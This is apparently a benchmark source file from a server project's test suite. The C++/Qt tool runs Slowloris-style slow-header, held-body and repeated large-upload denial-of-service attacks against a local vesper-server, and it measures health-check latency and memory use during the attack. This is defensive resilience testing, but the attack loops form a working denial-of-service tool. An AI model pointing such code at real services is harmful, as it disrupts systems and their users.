// The slow-client and held-body attacks of issue 13 at full size, against a running vesper-server on
// 127.0.0.1 (tests/bench/attack_slowclients.sh starts one and runs each attack). While attacking from
// 127.0.1.x, a probe from 127.0.2.1 asks GET /healthz every 200 ms; every 5 s a line shows the
// attackers' open connections, the server's resident memory and the probe's latency, and at the end
// the probe's p50/p95/p99 and failures against a baseline measured before the attack. The `uploads`
// attack is the costly-work one: whole 4096 × 4096 noise PNGs (at the pixel cap), posted again as
// soon as each is answered, with the answers' statuses counted.
//
//   attack_slowclients --port P --pid PID --attack slowheaders|heldbodies|heldjson|signedout|uploads
//                      [--connections 1200] [--addresses 20] [--seconds 30] [--token T] [--size BYTES]
#include "latency.h"

#include <QCommandLineParser>
#include <QCoreApplication>
#include <QElapsedTimer>
#include <QFile>
#include <QList>
#include <QMap>
#include <QRandomGenerator>

#include <arpa/inet.h>
#include <array>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <mutex>
#include <netinet/in.h>
#include <sys/socket.h>
#include <thread>
#include <unistd.h>

using vesper::bench::Latency;

namespace {

int connectFrom(const QByteArray &source, quint16 port, bool nonBlocking)
{
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in local{};
    local.sin_family = AF_INET;
    inet_pton(AF_INET, source.constData(), &local.sin_addr);
    sockaddr_in remote{};
    remote.sin_family = AF_INET;
    remote.sin_port = htons(port);
    remote.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr *>(&local), sizeof local) != 0
        || ::connect(fd, reinterpret_cast<sockaddr *>(&remote), sizeof remote) != 0) {
        if (fd >= 0)
            ::close(fd);
        return -1;
    }
    if (nonBlocking)
        ::fcntl(fd, F_SETFL, ::fcntl(fd, F_GETFL) | O_NONBLOCK);
    return fd;
}

qint64 residentMiB(qint64 pid)
{
    QFile status(QStringLiteral("/proc/%1/status").arg(pid));
    if (!status.open(QIODevice::ReadOnly))
        return -1;
    for (const QByteArray &line : status.readAll().split('\n')) {
        if (line.startsWith("VmRSS:"))
            return line.mid(6).trimmed().split(' ').first().toLongLong() / 1024;
    }
    return -1;
}

/// GET /healthz from its own address every 200 ms, 5 s at most each; a failure is a timeout, a
/// refused connection or any status but 200.
class Probe {
public:
    explicit Probe(quint16 port) : m_port(port) {}
    void start() { m_thread = std::thread([this] { run(); }); }
    void stop()
    {
        m_stop = true;
        m_thread.join();
    }
    /// The samples since the last take.
    Latency take(int *failures)
    {
        std::lock_guard lock(m_mutex);
        Latency out = m_latency;
        *failures = m_failures;
        m_latency = Latency();
        m_failures = 0;
        return out;
    }
    /// The samples since the last takePhase (a whole attack).
    Latency takePhase(int *failures)
    {
        std::lock_guard lock(m_mutex);
        Latency out = m_phase;
        *failures = m_phaseFailures;
        m_phase = Latency();
        m_phaseFailures = 0;
        return out;
    }

private:
    void run()
    {
        while (!m_stop) {
            QElapsedTimer timer;
            timer.start();
            const bool ok = once();
            const qint64 ns = timer.nsecsElapsed();
            {
                std::lock_guard lock(m_mutex);
                if (ok) {
                    m_latency.add(ns);
                    m_phase.add(ns);
                } else {
                    ++m_failures;
                    ++m_phaseFailures;
                }
            }
            std::this_thread::sleep_for(std::chrono::milliseconds(200));
        }
    }
    bool once()
    {
        const int fd = connectFrom("127.0.2.1", m_port, false);
        if (fd < 0)
            return false;
        timeval timeout{5, 0};
        setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
        const char request[] = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n";
        ::send(fd, request, sizeof request - 1, MSG_NOSIGNAL);
        char buffer[512];
        const ssize_t n = ::recv(fd, buffer, sizeof buffer, 0);
        ::close(fd);
        return n >= 12 && std::memcmp(buffer, "HTTP/1.1 200", 12) == 0;
    }

    quint16 m_port;
    std::thread m_thread;
    std::atomic<bool> m_stop{false};
    std::mutex m_mutex;
    Latency m_latency;
    Latency m_phase;
    int m_failures = 0;
    int m_phaseFailures = 0;
};

void printProbe(const char *label, const Latency &latency, int failures)
{
    std::printf("%s: /healthz p50 %.1f ms p95 %.1f ms p99 %.1f ms max %.1f ms, %lld ok, %d failed\n", label,
                latency.percentileMs(0.5), latency.percentileMs(0.95), latency.percentileMs(0.99), latency.percentileMs(1.0),
                qint64(latency.count()), failures);
}

quint32 crc32(const QByteArray &data)
{
    static const auto table = [] {
        std::array<quint32, 256> t{};
        for (quint32 n = 0; n < 256; ++n) {
            quint32 c = n;
            for (int k = 0; k < 8; ++k)
                c = (c & 1u) ? 0xedb88320u ^ (c >> 1) : c >> 1;
            t[n] = c;
        }
        return t;
    }();
    quint32 crc = 0xffffffffu;
    for (char byte : data)
        crc = table[(crc ^ quint8(byte)) & 0xffu] ^ (crc >> 8);
    return ~crc;
}

/// An 8-bit grayscale PNG of random pixels, side × side: incompressible, so a 4096 one is about
/// 16.8 MB (under the 20 MiB upload limit) and decodes to 16.8 megapixels, the most accepted.
QByteArray noisePng(int side)
{
    const auto be32 = [](quint32 v) {
        const char bytes[4] = {char(v >> 24), char(v >> 16), char(v >> 8), char(v)};
        return QByteArray(bytes, 4);
    };
    const auto chunk = [&be32](QByteArray &png, const char *type, const QByteArray &data) {
        const QByteArray typed = QByteArray(type) + data;
        png += be32(quint32(data.size())) + typed + be32(crc32(typed));
    };
    QByteArray png("\x89PNG\r\n\x1a\n", 8);
    QByteArray header = be32(quint32(side)) + be32(quint32(side));
    header += QByteArray("\x08\x00\x00\x00\x00", 5); // 8 bits, grayscale, deflate, no filter set, no interlace
    chunk(png, "IHDR", header);
    QByteArray raw(qsizetype(side + 1) * side, Qt::Uninitialized);
    QRandomGenerator::global()->fillRange(reinterpret_cast<quint32 *>(raw.data()), raw.size() / 4);
    for (int y = 0; y < side; ++y)
        raw[qsizetype(y) * (side + 1)] = 0; // each row's filter: none
    chunk(png, "IDAT", qCompress(raw, 1).mid(4)); // qCompress: a 4-byte length, then a zlib stream
    chunk(png, "IEND", {});
    return png;
}

/// "201" from "HTTP/1.1 201 Created…"; "cut" when nothing readable came.
QByteArray statusOf(const char *buffer, ssize_t n)
{
    return n >= 12 && std::memcmp(buffer, "HTTP/1.", 7) == 0 ? QByteArray(buffer + 9, 3) : QByteArray("cut");
}

struct Attacker {
    QByteArray source;
    int fd = -1;
};

} // namespace

int main(int argc, char *argv[])
{
    QCoreApplication app(argc, argv);
    QCommandLineParser parser;
    parser.addHelpOption();
    parser.addOptions({{QStringLiteral("port"), QStringLiteral("server port"), QStringLiteral("n")},
                       {QStringLiteral("pid"), QStringLiteral("server process id (for RSS)"), QStringLiteral("n")},
                       {QStringLiteral("attack"), QStringLiteral("slowheaders | heldbodies (uploads) | heldjson | signedout | uploads (whole, costly)"),
                        QStringLiteral("kind")},
                       {QStringLiteral("connections"), QStringLiteral("attacking connections"), QStringLiteral("n"), QStringLiteral("1200")},
                       {QStringLiteral("addresses"), QStringLiteral("attacking addresses 127.0.1.1.."), QStringLiteral("n"), QStringLiteral("20")},
                       {QStringLiteral("seconds"), QStringLiteral("attack length"), QStringLiteral("n"), QStringLiteral("30")},
                       {QStringLiteral("size"), QStringLiteral("declared body size"), QStringLiteral("bytes"), QStringLiteral("20971520")},
                       {QStringLiteral("token"), QStringLiteral("bearer token for heldbodies"), QStringLiteral("t")}});
    parser.process(app);
    const quint16 port = quint16(parser.value(QStringLiteral("port")).toUInt());
    const qint64 pid = parser.value(QStringLiteral("pid")).toLongLong();
    const QString attack = parser.value(QStringLiteral("attack"));
    const int connections = parser.value(QStringLiteral("connections")).toInt();
    const int addresses = std::max(1, parser.value(QStringLiteral("addresses")).toInt());
    const int seconds = parser.value(QStringLiteral("seconds")).toInt();
    const qint64 size = parser.value(QStringLiteral("size")).toLongLong();
    const QByteArray token = parser.value(QStringLiteral("token")).toLatin1();

    QByteArray opening;
    QByteArray trickle;
    if (attack == QLatin1String("slowheaders")) {
        opening = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n";
        trickle = "X-Slow: 1\r\n"; // every 10 s, far inside any idle timeout
    } else if (attack == QLatin1String("heldbodies") || attack == QLatin1String("heldjson") || attack == QLatin1String("signedout")) {
        // All but the last byte of each body, then nothing.
        const QByteArray bearer = "Authorization: Bearer " + token + "\r\n";
        opening = attack == QLatin1String("heldbodies") ? "POST /api/uploads HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: image/png\r\n" + bearer
                  : attack == QLatin1String("heldjson") ? "POST /api/projects HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n" + bearer
                  : QByteArray("POST /auth/v1/token?grant_type=password HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n");
        opening += "Content-Length: " + QByteArray::number(size) + "\r\n\r\n" + QByteArray(size - 1, ' ');
    } else if (attack == QLatin1String("uploads")) {
        // Whole uploads, each sent again as soon as it is answered: decode and re-encode every time.
        const QByteArray png = noisePng(4096);
        std::printf("each upload: a 4096 x 4096 noise PNG of %lld bytes\n", qint64(png.size()));
        opening = "POST /api/uploads HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: image/png\r\nAuthorization: Bearer " + token
            + "\r\nContent-Length: " + QByteArray::number(png.size()) + "\r\n\r\n" + png;
    } else {
        std::fprintf(stderr, "--attack must be slowheaders, heldbodies, heldjson, signedout or uploads\n");
        return 2;
    }
    const bool whole = attack == QLatin1String("uploads");
    QMap<QByteArray, qint64> answers; // status → count, for whole requests

    Probe probe(port);
    probe.start();
    std::this_thread::sleep_for(std::chrono::seconds(3));
    int failures = 0;
    probe.take(&failures);
    printProbe("before the attack", probe.takePhase(&failures), failures);
    std::printf("before the attack: server RSS %lld MiB\n", residentMiB(pid));

    QList<Attacker> attackers;
    for (int i = 0; i < connections; ++i)
        attackers.append({"127.0.1." + QByteArray::number(1 + i % addresses), -1});
    qint64 reconnects = 0;
    QElapsedTimer clock;
    clock.start();
    qint64 lastTrickle = -10000;
    qint64 lastReport = 0;
    qint64 peakRss = 0;
    std::vector<qsizetype> sent(size_t(connections), 0);
    while (clock.elapsed() < qint64(seconds) * 1000) {
        const bool trickleNow = !trickle.isEmpty() && clock.elapsed() - lastTrickle >= 10000;
        if (trickleNow)
            lastTrickle = clock.elapsed();
        int open = 0;
        for (int i = 0; i < attackers.size(); ++i) {
            Attacker &a = attackers[i];
            if (a.fd >= 0) { // cut by the server? (an answer or the end of the stream)
                char buffer[4096];
                const ssize_t n = ::recv(a.fd, buffer, sizeof buffer, 0);
                if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK) || n > 0) {
                    if (whole)
                        ++answers[statusOf(buffer, n)];
                    ::close(a.fd);
                    a.fd = -1;
                }
            }
            if (a.fd < 0) { // an attacker comes straight back
                a.fd = connectFrom(a.source, port, true);
                sent[size_t(i)] = 0;
                if (a.fd < 0)
                    continue;
                ++reconnects;
            }
            if (sent[size_t(i)] < opening.size()) {
                const ssize_t n = ::send(a.fd, opening.constData() + sent[size_t(i)], size_t(opening.size() - sent[size_t(i)]), MSG_NOSIGNAL);
                if (n > 0)
                    sent[size_t(i)] += n;
            } else if (trickleNow) {
                ::send(a.fd, trickle.constData(), size_t(trickle.size()), MSG_NOSIGNAL);
            }
            ++open;
        }
        peakRss = std::max(peakRss, residentMiB(pid));
        if (clock.elapsed() - lastReport >= 5000) {
            lastReport = clock.elapsed();
            int failed = 0;
            const Latency window = probe.take(&failed);
            std::printf("t=%2llds  attackers open %4d  (re)connects %6lld  server RSS %5lld MiB  /healthz p50 %.1f ms max %.1f ms, %lld ok, %d failed\n",
                        clock.elapsed() / 1000, open, reconnects, residentMiB(pid), window.percentileMs(0.5),
                        window.percentileMs(1.0), qint64(window.count()), failed);
            if (whole) {
                QByteArray counts;
                for (auto it = answers.cbegin(); it != answers.cend(); ++it)
                    counts += ' ' + it.key() + ':' + QByteArray::number(it.value());
                std::printf("      answers so far:%s\n", counts.isEmpty() ? " none" : counts.constData());
            }
            std::fflush(stdout);
        }
        // Slow attackers act every 200 ms; whole uploads are pushed as fast as the socket takes them.
        std::this_thread::sleep_for(std::chrono::milliseconds(whole ? 5 : 200));
    }
    for (Attacker &a : attackers) {
        if (a.fd >= 0)
            ::close(a.fd);
    }
    const Latency during = probe.takePhase(&failures);
    std::printf("during the attack: peak server RSS %lld MiB\n", peakRss);
    printProbe("during the attack", during, failures);
    std::this_thread::sleep_for(std::chrono::seconds(5));
    const Latency after = probe.takePhase(&failures);
    probe.stop();
    printProbe("5 s after the attackers left", after, failures);
    std::printf("after the attack: server RSS %lld MiB\n", residentMiB(pid));
    return 0;
}
